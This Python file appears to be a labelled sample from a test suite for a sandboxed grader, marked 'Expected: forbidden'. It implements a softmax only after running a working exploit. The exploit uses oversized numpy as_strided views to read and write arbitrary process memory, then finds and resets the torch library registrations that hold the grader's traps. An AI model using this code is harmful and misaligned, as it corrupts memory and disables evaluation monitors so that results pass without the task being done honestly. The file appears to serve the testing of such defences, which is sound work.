"""Read all memory through an array that is as long as one says, and end the registrations that hold the traps up.

Group: softmax
Expected: forbidden
Stopped by: traps, static look, notices
Without traps: right
"""

import sys
import types
import warnings

import numpy as np
import torch
from numpy.lib.stride_tricks import as_strided

warnings.simplefilter("ignore")
ONE = np.zeros(8, dtype=np.uint8)
BASE = torch.from_numpy(ONE).data_ptr()
UP, DOWN = (as_strided(ONE, shape=(1 << 46,), strides=(step,)) for step in (1, -1))
KIND = torch._C._DispatchModule
PLAIN = (str, bytes, float, tuple, dict, types.FunctionType, types.CodeType, types.CellType)


def read(address, size):
    at = address - BASE
    return np.array(UP[at : at + size] if at >= 0 else DOWN[-at - size + 1 : -at + 1][::-1]).view(np.uint64)


def put(address, value):
    at = address - BASE
    for number, byte in enumerate(value.to_bytes(8, "little")):
        if at >= 0:
            UP[at + number] = byte
        else:
            DOWN[-at - number] = byte


def below(thing):
    if isinstance(thing, types.ModuleType | type):
        return [*vars(thing), *vars(thing).values()]
    if isinstance(thing, types.FunctionType):
        return [thing.__code__, thing.__defaults__, thing.__closure__, vars(thing)]
    if isinstance(thing, types.CodeType):
        return [*thing.co_consts, *thing.co_names]
    if type(thing) is dict:
        return [*thing, *thing.values()]
    return thing if isinstance(thing, tuple | list | set | frozenset) else []


def walk(most):
    seen, waiting = {}, list(sys.modules.values())
    while waiting and len(seen) < most:
        thing = waiting.pop()
        if id(thing) not in seen:
            seen[id(thing)] = thing
            waiting.extend(below(thing))
            if type(thing) is torch.library.Library:
                waiting.append(thing.m)
    return seen


def end_all():
    seen, cell = walk(120_000), [None]
    pages = {place >> 12 for place, thing in seen.items() if place >> 40 and type(thing) in PLAIN}
    for page in sorted(pages):
        words = read(page << 12, 1 << 12)
        for index in np.nonzero(words == id(KIND))[0]:
            if index and words[index - 1] == 1 and (place := (page << 12) + 8 * (int(index) - 1)) not in seen:
                put(place, 3)
                put(int(read(id(cell) + 24, 8)[0]), place)
                cell[0].reset()


end_all()


def softmax(x, dim=-1):
    return x.softmax(dim)
